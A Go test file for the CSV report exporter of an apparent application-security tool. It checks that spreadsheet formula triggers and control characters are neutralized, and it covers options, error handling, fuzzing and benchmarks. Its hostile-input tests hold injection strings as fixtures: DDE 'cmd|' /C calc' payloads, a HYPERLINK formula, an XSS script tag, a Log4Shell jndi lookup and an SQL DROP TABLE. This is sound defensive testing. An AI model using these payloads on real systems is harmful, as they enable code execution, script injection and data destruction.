package csv_test

import (
	"bytes"
	stdcsv "encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/aspmkit/aspm/findings"
	"github.com/aspmkit/aspm/findings/detect"
	"github.com/aspmkit/aspm/internal/golden"
	"github.com/aspmkit/aspm/internal/testcorpus"
	"github.com/aspmkit/aspm/report"
	"github.com/aspmkit/aspm/report/csv"
)

// load reads a report.Data fixture and builds its report.
func load(tb testing.TB, path string) *report.Report {
	tb.Helper()
	b, err := os.ReadFile(path)
	require.NoError(tb, err)
	var d report.Data
	require.NoError(tb, json.Unmarshal(b, &d))
	return report.New(&d, report.Options{})
}

const (
	hostilePath   = "../testdata/hostile.json"
	realisticPath = "../testdata/realistic.json"
)

func render(tb testing.TB, r *report.Report, opts csv.Options) []byte {
	tb.Helper()
	var buf bytes.Buffer
	require.NoError(tb, csv.Write(&buf, r, opts))
	return buf.Bytes()
}

func parse(tb testing.TB, b []byte) [][]string {
	tb.Helper()
	rd := stdcsv.NewReader(bytes.NewReader(b))
	rows, err := rd.ReadAll() // FieldsPerRecord 0: every row as long as the header
	require.NoError(tb, err)
	return rows
}

func TestGolden(t *testing.T) {
	for _, tc := range []struct{ name, in, golden string }{
		{"hostile", hostilePath, "testdata/hostile.csv"},
		{"realistic", realisticPath, "testdata/realistic.csv"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := load(t, tc.in)
			got := render(t, r, csv.Options{})
			golden.Assert(t, tc.golden, got)
			assert.Equal(t, got, render(t, load(t, tc.in), csv.Options{}), "deterministic")
			rows := parse(t, got)
			assert.Len(t, rows, 1+len(r.Findings))
		})
	}
}

// startsWithTrigger reports whether s would start a formula: its first
// rune after blanks is a trigger.
func startsWithTrigger(s string) bool {
	t := strings.TrimLeft(s, " \n\u00a0\u3000\v\f")
	return t != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(t)[0])
}

// assertSafe checks every cell of a parsed CSV: no formula trigger
// without the quote, no control character but LF.
func assertSafe(t *testing.T, rows [][]string) {
	t.Helper()
	for i, row := range rows {
		for j, cell := range row {
			assert.False(t, startsWithTrigger(cell), "row %d cell %d %q starts a formula", i, j, cell)
			for _, r := range cell {
				if unicode.IsControl(r) && r != '\n' {
					assert.Fail(t, "control character", "row %d cell %d %q", i, j, cell)
				}
			}
		}
	}
}

func TestHostileNeutralized(t *testing.T) {
	r := load(t, hostilePath)
	rows := parse(t, render(t, r, csv.Options{}))
	require.Len(t, rows, 6, "header and one row per finding")
	cols := csv.DefaultColumns()
	for _, row := range rows {
		require.Len(t, row, len(cols))
	}
	assertSafe(t, rows)

	cell := func(id string, c csv.Column) string {
		i := indexOf(cols, c)
		for _, row := range rows[1:] {
			if row[0] == id {
				return row[i]
			}
		}
		t.Fatalf("no row %s", id)
		return ""
	}
	for _, tc := range []struct {
		id   string
		col  csv.Column
		want string
	}{
		{"h1", csv.ColumnRuleID, `'=HYPERLINK("http://evil")`},
		{"h1", csv.ColumnDescription, "line1\nline2 red evil"},
		{"h1", csv.ColumnTitle, "<script>alert(document.domain)</script>"},
		{"h2", csv.ColumnTitle, "'+cmd|' /C calc'!A0 [click](javascript:alert(2)) **bold** `code`"},
		{"h2", csv.ColumnPackage, "'@evil/pkg"},
		{"h2", csv.ColumnPackageVersion, "'-1.0.0"},
		{"h3", csv.ColumnRuleID, "'@SUM(1+1)*cmd|'/C calc'!A0"},
		{"h3", csv.ColumnTitle, " Tab-led =1+2 secret"},
		{"h3", csv.ColumnLocation, "'-2+3.env"},
		{"h3", csv.ColumnStatus, "fixed"},
		{"h4", csv.ColumnRuleID, "\nCR-led"},
		{"h4", csv.ColumnTitle, "Title with  NUL,  BEL and OSC link"},
		{"h4", csv.ColumnStatus, "suppressed"},
		{"h5", csv.ColumnTitle, "{{.Secret}} ${jndi:ldap://evil} '; DROP TABLE findings; --"},
	} {
		assert.Equal(t, tc.want, cell(tc.id, tc.col), "%s %s", tc.id, tc.col)
	}
}

func indexOf(cols []csv.Column, c csv.Column) int {
	for i, x := range cols {
		if x == c {
			return i
		}
	}
	return -1
}

func TestNeutralize(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=1+2", "'=1+2"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"  =1", "'  =1"},
		{"\n=1", "'\n=1"},
		{"\u00a0=1", "'\u00a0=1"},
		{"＝1", "'＝1"},
		{"'quoted", "''quoted"},
		{" 'x", " 'x"},
		{"a=1", "a=1"},
		{"   ", "   "},
		{"1-2", "1-2"},
	} {
		assert.Equal(t, tc.want, csv.Neutralize(tc.in), "%q", tc.in)
	}
}

func TestOptions(t *testing.T) {
	r := load(t, realisticPath)
	for _, tc := range []struct {
		name string
		opts csv.Options
		want string // the header and first row
	}{
		{"columns", csv.Options{Columns: []csv.Column{csv.ColumnSeverity, csv.ColumnID, csv.ColumnLocation}},
			"severity,id,location\ncritical,f-xz,ghcr.io/acme/shop:1.8.2\n"},
		{"comma", csv.Options{Columns: []csv.Column{csv.ColumnID, csv.ColumnScore, csv.ColumnTitle}, Comma: ';'},
			"id;score;title\nf-xz;96.1;xz-utils: malicious code in upstream tarballs\n"},
		{"crlf", csv.Options{Columns: []csv.Column{csv.ColumnID, csv.ColumnKEV}, UseCRLF: true},
			"id,kev\r\nf-xz,true\r\n"},
		{"max cell", csv.Options{Columns: []csv.Column{csv.ColumnID, csv.ColumnTitle}, MaxCellRunes: 8},
			"id,title\nf-xz,xz-utils…\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := string(render(t, r, tc.opts))
			nl := "\n"
			if tc.opts.UseCRLF {
				nl = "\r\n"
			}
			lines := strings.SplitAfterN(got, nl, 3)
			require.Len(t, lines, 3)
			assert.Equal(t, tc.want, lines[0]+lines[1])
		})
	}
}

func TestInvalidOptions(t *testing.T) {
	r := load(t, realisticPath)
	for _, tc := range []struct {
		name   string
		opts   csv.Options
		option string
	}{
		{"unknown column", csv.Options{Columns: []csv.Column{csv.ColumnID, "nope"}}, "Columns[1]"},
		{"repeated column", csv.Options{Columns: []csv.Column{csv.ColumnID, csv.ColumnID}}, "Columns[1]"},
		{"no columns", csv.Options{Columns: []csv.Column{}}, "Columns"},
		{"quote comma", csv.Options{Comma: '"'}, "Comma"},
		{"newline comma", csv.Options{Comma: '\n'}, "Comma"},
		{"invalid comma", csv.Options{Comma: -1}, "Comma"},
		{"negative max", csv.Options{MaxCellRunes: -1}, "MaxCellRunes"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			err := csv.Write(&buf, r, tc.opts)
			require.Error(t, err)
			assert.ErrorIs(t, err, csv.ErrOptions)
			var oe *csv.OptionError
			require.ErrorAs(t, err, &oe)
			assert.Equal(t, tc.option, oe.Option)
			assert.True(t, strings.HasPrefix(err.Error(), "csv: "), err.Error())
			assert.Zero(t, buf.Len(), "nothing written")
		})
	}
}

type failWriter struct{ err error }

func (w failWriter) Write([]byte) (int, error) { return 0, w.err }

func TestWriteErrors(t *testing.T) {
	boom := errors.New("disk full")
	err := csv.Write(failWriter{boom}, load(t, realisticPath), csv.Options{})
	assert.ErrorIs(t, err, boom)
	assert.Error(t, csv.Write(&bytes.Buffer{}, nil, csv.Options{}))
}

func TestEmptyReport(t *testing.T) {
	got := render(t, report.New(&report.Data{}, report.Options{}), csv.Options{Columns: []csv.Column{csv.ColumnID}})
	assert.Equal(t, "id\n", string(got))
}

func TestDefaultColumnsIsACopy(t *testing.T) {
	c := csv.DefaultColumns()
	c[0] = "changed"
	assert.Equal(t, csv.ColumnID, csv.DefaultColumns()[0])
	for _, c := range csv.DefaultColumns() {
		assert.True(t, c.Valid(), c)
	}
	assert.False(t, csv.Column("nope").Valid())
}

// TestCorpus renders what the decoders read from real scanner output and
// parses it back.
func TestCorpus(t *testing.T) {
	testcorpus.Dir(t)
	var files []string
	for _, p := range []string{"sarif/*/*", "trivy/*/*", "grype/*/*", "gitleaks/*/*", "zap/*/*", "npm-audit/*/*"} {
		files = append(files, testcorpus.Glob(p)...)
	}
	require.NotEmpty(t, files)
	rendered := 0
	for _, path := range files {
		fs, _, err := findings.Collect(func(h findings.Handler) error {
			_, err := detect.DecodeFile(path, detect.Options{}, h)
			return err
		})
		if err != nil || len(fs) == 0 {
			continue // the decoders' own tests cover bad files
		}
		t.Run(filepath.Base(filepath.Dir(path))+"/"+filepath.Base(path), func(t *testing.T) {
			r := report.New(report.FromFindings(fs), report.Options{})
			rows := parse(t, render(t, r, csv.Options{}))
			assert.Len(t, rows, len(fs)+1)
			assertSafe(t, rows)
		})
		rendered++
	}
	assert.Positive(t, rendered)
}

func FuzzWrite(f *testing.F) {
	f.Add("=1+2", "@evil", "-1", "a,b\"c\nd", "\t\r", 10)
	f.Add("'x", "\x1b[31m=red", "\u202e=x", "\xff=", "＝", 0)
	f.Fuzz(func(t *testing.T, title, rule, path, desc, tool string, max int) {
		d := report.FromFindings([]findings.Finding{{
			ID: rule + path, Title: title, RuleID: rule, Description: desc, Tool: findings.Tool{Name: tool},
			Severity: findings.Severity(tool), Location: findings.Location{Path: path}, References: []string{desc, title},
			Package: &findings.Package{Name: title, Version: rule},
		}})
		d.Findings[0].Assets = []string{path}
		d.Findings[0].State = title
		var buf bytes.Buffer
		require.NoError(t, csv.Write(&buf, report.New(d, report.Options{}), csv.Options{MaxCellRunes: max & 0xff}))
		rows := parse(t, buf.Bytes())
		require.Len(t, rows, 2)
		require.Len(t, rows[1], len(csv.DefaultColumns()))
		assertSafe(t, rows)
	})
}

// synthetic builds a report of n findings for benchmarks.
func synthetic(n int) *report.Report {
	now := time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC)
	sevs := findings.Severities
	d := &report.Data{GeneratedAt: now, Findings: make([]report.Finding, n)}
	for i := range d.Findings {
		open := i%10 != 0
		d.Findings[i] = report.Finding{
			Finding: findings.Finding{
				ID: fmt.Sprintf("f%06d", i), Kind: findings.KindSCA, Tool: findings.Tool{Name: "trivy"},
				RuleID: fmt.Sprintf("CVE-2024-%05d", i), Title: fmt.Sprintf("Vulnerability %d in package %d", i, i%500),
				Description: "A long description of the problem, with a line break\nand more text.",
				Severity:    sevs[i%len(sevs)], VulnerabilityIDs: []string{fmt.Sprintf("CVE-2024-%05d", i)},
				Package:    &findings.Package{Name: fmt.Sprintf("pkg%d", i%500), Version: "1.2.3", PURL: fmt.Sprintf("pkg:npm/pkg%d@1.2.3", i%500)},
				Location:   findings.Location{Path: "package-lock.json"},
				References: []string{"https://example.com/advisory"},
			},
			State: "unchanged", Open: &open, FirstSeen: now.AddDate(0, 0, -i%400), LastSeen: now,
			Risk:   &report.Risk{Score: float64(i%1000) / 10, Priority: "P3", Explanation: "medium severity"},
			SLADue: now.AddDate(0, 0, i%60-30), Assets: []string{"repository:github.com/acme/shop"},
		}
	}
	return report.New(d, report.Options{})
}

type countWriter struct{ n int64 }

func (w *countWriter) Write(p []byte) (int, error) { w.n += int64(len(p)); return len(p), nil }

func BenchmarkWrite100k(b *testing.B) {
	r := synthetic(100_000)
	b.ReportAllocs()
	b.ResetTimer()
	var w countWriter
	for b.Loop() {
		w.n = 0
		if err := csv.Write(&w, r, csv.Options{}); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(w.n), "bytes/report")
}
